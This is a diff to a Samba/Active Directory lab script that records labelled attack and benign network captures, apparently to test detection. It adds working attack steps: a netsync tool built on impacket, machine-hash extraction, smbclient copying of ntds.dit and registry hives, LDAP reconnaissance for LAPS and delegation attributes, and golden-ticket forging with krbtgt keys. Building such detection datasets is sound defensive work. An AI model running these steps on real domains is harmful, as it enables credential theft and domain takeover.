@@ -2,7 +2,8 @@
 #   sudo ../shared/lab/make-captures.sh up
 #   sudo env VARIANT_FILE=$PWD/testdata/lab-extra/scenarios.sh \
 #        ONLY="honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost \
-#             forged_pac benign_no_pac_client dpapi_backupkey_bkrp benign_bkrp_restore" \
+#             forged_pac benign_no_pac_client dpapi_backupkey_bkrp benign_bkrp_restore \
+#             netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon golden_ticket_rc4 golden_ticket_kvno" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
 # Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
@@ -181,5 +182,150 @@ sc_benign_bkrp_restore() {
   on ws 60 -- "$VPY" "$WORK/tools/bkrp_call.py" "$DOMAIN" alice "$ALICE_PASS" "$DC_IP" restore integrity
   on ws 60 -- "$VPY" "$WORK/tools/bkrp_call.py" "$DOMAIN" alice "$ALICE_PASS" "$DC_IP" restore privacy
   expect 'dcerpc.opnum==0 && dcerpc.pkt_type==0' 2
+  cap_end
+}
+
+SCEN_LIST="$SCEN_LIST netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon"
+
+# DC side (local sam.ldb, no network): the DC's own machine account NT hash -> $WORK/dcmachine.nt,
+# what mimikatz netsync needs (an attacker who dumped one DC's secrets, or a DC's backup).
+dc_machine_hash() {
+  dcns $PY - "$PREFIX/private/sam.ldb" "$PREFIX/etc/smb.conf" "${DCNAME^^}\$" > "$WORK/dcmachine.nt" 2>"$WORK/dcmachine.err" <<'PYEOF'
+import sys, binascii
+from samba import param
+from samba.samdb import SamDB
+from samba.auth import system_session
+lp = param.LoadParm(); lp.load(sys.argv[2])
+db = SamDB(url=sys.argv[1], session_info=system_session(), lp=lp)
+m = db.search(base=db.domain_dn(), expression='(sAMAccountName=%s)' % sys.argv[3], attrs=['unicodePwd'])[0]
+print(binascii.hexlify(m['unicodePwd'][0]).decode())
+PYEOF
+  [ -s "$WORK/dcmachine.nt" ] || { cat "$WORK/dcmachine.err" >&2; log "WARN: could not read the DC's machine hash"; }
+}
+
+netsync_tool() {
+  mkdir -p "$WORK/tools"
+  cat > "$WORK/tools/netsync.py" <<'PYEOF'
+# What mimikatz `lsadump::netsync` sends, with impacket: a Netlogon secure channel opened as a
+# DC's own machine account (ServerSecureChannel) from another host with that account's NT hash,
+# then NetrServerTrustPasswordsGet and NetrServerGetTrustInfo for a target computer account.
+# usage: netsync.py DC_IP DC_NAME NT_HASH TARGET_ACCOUNT
+import sys, binascii
+from impacket.dcerpc.v5 import transport, nrpc, epm
+dc_ip, dc_name, nthash, target = sys.argv[1:5]
+binding = epm.hept_map(dc_ip, nrpc.MSRPC_UUID_NRPC, protocol='ncacn_ip_tcp')
+dce = transport.DCERPCTransportFactory(binding).get_dce_rpc()
+dce.connect()
+dce.bind(nrpc.MSRPC_UUID_NRPC)
+server, account, channel = '\\\\' + dc_name + '\x00', dc_name + '$\x00', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
+client_challenge = b'\x11\x22\x33\x44\x55\x66\x77\x88'
+server_challenge = nrpc.hNetrServerReqChallenge(dce, server, dc_name + '\x00', client_challenge)['ServerChallenge']
+key = nrpc.ComputeSessionKeyAES('', client_challenge, server_challenge, binascii.unhexlify(nthash))
+credential = nrpc.ComputeNetlogonCredentialAES(client_challenge, key)
+resp = nrpc.hNetrServerAuthenticate3(dce, server, account, channel, dc_name + '\x00', credential, 0x612fffff)
+print('secure channel as', dc_name + '$', 'flags', hex(resp['NegotiateFlags']))
+for call in (nrpc.hNetrServerTrustPasswordsGet, nrpc.hNetrServerGetTrustInfo):
+    try:
+        auth = nrpc.ComputeNetlogonAuthenticatorAES(credential, key)
+        resp = call(dce, server, target + '\x00', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel, dc_name + '\x00', auth)
+        print(call.__name__, 'answered for', target)
+    except Exception as e:
+        print(call.__name__, 'refused:', e)
+dce.disconnect()
+PYEOF
+}
+
+sc_netsync() {
+  dc_machine_hash; netsync_tool
+  cap_begin netsync attack T1003.006 "$ATK_IP" "WS01\$ (machine secret)" \
+    "NetSync (mimikatz lsadump::netsync): from a non-DC, a Netlogon secure channel as the DC's own machine account ($DCNAME\$, ServerSecureChannel, with its dumped NT hash), then NetrServerTrustPasswordsGet and NetrServerGetTrustInfo for the computer account WS01\$ (impacket nrpc)."
+  on atk 60 -- "$VPY" "$WORK/tools/netsync.py" "$DC_IP" "${DCNAME^^}" "$(cat "$WORK/dcmachine.nt")" 'WS01$'
+  expect 'netlogon.opnum==26'
+  expect 'netlogon.opnum==42'
+  expect 'netlogon.opnum==46'
+  cap_end
+}
+
+# Files an attacker stages on the DC before copying them off (ntds.dit from a shadow copy, the
+# registry hives saved with `reg save`): copies of the DC's own database under SYSVOL's temp folder.
+stage_dc_files() {
+  local d="$PREFIX/state/sysvol/$DNSDOM/temp"
+  mkdir -p "$d"
+  head -c 524288 "$PREFIX/private/sam.ldb" > "$d/ntds.dit"   # its first pages: enough for the wire
+  head -c 262144 /dev/urandom > "$d/SYSTEM.save"
+  head -c 65536 /dev/urandom > "$d/SAM.save"; chmod 0644 "$d"/*
+}
+
+sc_smb_ntds_exfil() {
+  stage_dc_files
+  cap_begin smb_ntds_exfil attack T1048.003 "$ATK_IP" "$DCFQDN (ntds.dit, SYSTEM, SAM)" \
+    "Data exfiltration over SMB: with a Domain Admin's credentials ($DA_USER), the attacker copies a staged ntds.dit and saved SYSTEM/SAM hives from the DC's share to its own host (smbclient get)."
+  on atk 90 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=disabled "//$DC_IP/sysvol" \
+    -c "cd $DNSDOM/temp; get ntds.dit $WORK/tmp/ntds.dit; get SYSTEM.save $WORK/tmp/SYSTEM.save; get SAM.save $WORK/tmp/SAM.save"
+  expect 'smb2.filename contains "ntds.dit"'
+  expect 'smb2.cmd==8 && smb2.flags.response==1' 3
+  cap_end
+}
+
+sc_benign_sysvol_read() {
+  cap_begin benign_sysvol_read benign none "$WS_IP" "$DCFQDN (SYSVOL policies)" \
+    "A workstation reading group policy files from SYSVOL as a user does at logon (GPT.INI, GptTmpl.inf through smbclient), and listing the share."
+  on ws 60 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\alice%$ALICE_PASS" --use-kerberos=disabled "//$DC_IP/sysvol" \
+    -c "cd $DNSDOM/Policies; ls; cd {31B2F340-016D-11D2-945F-00C04FB984F9}; get GPT.INI $WORK/tmp/GPT.INI; cd MACHINE/Microsoft/Windows NT/SecEdit; get GptTmpl.inf $WORK/tmp/GptTmpl.inf"
+  expect 'smb2.filename contains "GPT.INI"'
+  cap_end
+}
+
+sc_ldap_attribute_recon() {
+  cap_begin ldap_attribute_recon attack T1087.002 "$ATK_IP" "$BASEDN (LAPS, delegation, key credentials, security descriptors)" \
+    "Active Directory attributes reconnaissance with a phished account ($RECON_USER): directory-wide searches for LAPS passwords, constrained and resource-based delegation, shadow credentials (msDS-KeyCredentialLink) and every object's security descriptor (ldapsearch, as PowerView / ldapdomaindump modules do)."
+  local L=(ldapsearch -LLL -x -H "ldap://$DC_IP" -D "$RECON_USER@$DNSDOM" -w "$RECON_PASS" -E pr=500/noprompt -b "$BASEDN")
+  on atk -- "${L[@]}" '(objectClass=computer)' sAMAccountName ms-Mcs-AdmPwd msLAPS-Password
+  on atk -- "${L[@]}" '(msDS-AllowedToDelegateTo=*)' sAMAccountName msDS-AllowedToDelegateTo
+  on atk -- "${L[@]}" '(msDS-AllowedToActOnBehalfOfOtherIdentity=*)' sAMAccountName
+  on atk -- "${L[@]}" '(objectClass=user)' sAMAccountName msDS-KeyCredentialLink
+  on atk -- "${L[@]}" -E '!1.2.840.113556.1.4.801=::MAMCAQc=' '(objectClass=*)' nTSecurityDescriptor
+  expect 'ldap.protocolOp==3' 5
+  expect 'ldap.AttributeDescription=="ms-Mcs-AdmPwd"'
+  cap_end
+}
+
+SCEN_LIST="$SCEN_LIST golden_ticket_rc4 golden_ticket_kvno"
+
+# Ordinary workstation logons first, so the recording shows the TGTs this KDC issues (their
+# encryption type and key version) before the forged one is presented.
+workstation_logons() {
+  kinit_pw ws ws-alice alice "$ALICE_PASS"
+  kinit_pw ws ws-carol carol "$CAROL_PASS"
+  kinit_pw ws ws-da "$DA_USER" "$DA_PASS"
+  EXTRA_ENV=$(cc ws-alice) on ws -- kvno "cifs/$DCFQDN@$REALM"
+}
+
+sc_golden_ticket_rc4() {
+  krbtgt_keys
+  local sid forged=Administrator rid=500; sid=$(cat "$WORK/domain.sid")
+  cap_begin golden_ticket_rc4 attack T1558.001 "$ATK_IP" "$forged (forged RC4 TGT), cifs/$DCFQDN, ldap/$DCFQDN" \
+    "Golden ticket forged the mimikatz way, with the krbtgt NT hash: an RC4-HMAC TGT for $forged (RID $rid, Domain Admins etc. in the PAC) from impacket ticketer -nthash, presented in TGS-REQs with no AS exchange, while the KDC issues AES256 TGTs to the workstation's users (three logons recorded first)."
+  workstation_logons
+  on atk -- "$VPY" "$IMP/ticketer.py" -nthash "$(cat "$WORK/krbtgt.nt")" -domain-sid "$sid" -domain "$DNSDOM" -user-id "$rid" -groups 512,513,518,519,520 "$forged"
+  cp -f "$WORK/tmp/$forged.ccache" "$WORK/cc/atk-golden-rc4" 2>/dev/null
+  on atk -- "$VPY" "$WORK/tools/ccache_kvno.py" "$WORK/cc/atk-golden-rc4" "$(cat "$WORK/krbtgt.kvno")"
+  EXTRA_ENV=$(cc atk-golden-rc4) on atk -- kvno "cifs/$DCFQDN@$REALM" "ldap/$DCFQDN@$REALM"
+  expect "kerberos.msg_type==12 && ip.src==$ATK_IP" 2
+  expect "kerberos.msg_type==11 && ip.dst==$WS_IP" 3
+  cap_end
+}
+
+sc_golden_ticket_kvno() {
+  krbtgt_keys
+  local sid forged=Administrator rid=500; sid=$(cat "$WORK/domain.sid")
+  cap_begin golden_ticket_kvno attack T1558.001 "$ATK_IP" "$forged (forged TGT, wrong key version), cifs/$DCFQDN" \
+    "Golden ticket whose key version is not krbtgt's: a TGT for $forged forged with the krbtgt AES key by impacket ticketer, left with the key version number forging tools write (2, as mimikatz does) while this KDC's krbtgt is at $(cat "$WORK/krbtgt.kvno" 2>/dev/null); presented in TGS-REQs after three ordinary logons (Samba checks the number and refuses, Windows KDCs do not)."
+  workstation_logons
+  on atk -- "$VPY" "$IMP/ticketer.py" -aesKey "$(cat "$WORK/krbtgt.aes")" -domain-sid "$sid" -domain "$DNSDOM" -user-id "$rid" -groups 512,513,518,519,520 "$forged"
+  cp -f "$WORK/tmp/$forged.ccache" "$WORK/cc/atk-golden-kvno" 2>/dev/null
+  EXTRA_ENV=$(cc atk-golden-kvno) on atk -- kvno "cifs/$DCFQDN@$REALM"
+  expect "kerberos.msg_type==12 && ip.src==$ATK_IP"
+  expect "kerberos.msg_type==11 && ip.dst==$WS_IP" 3
   cap_end
 }
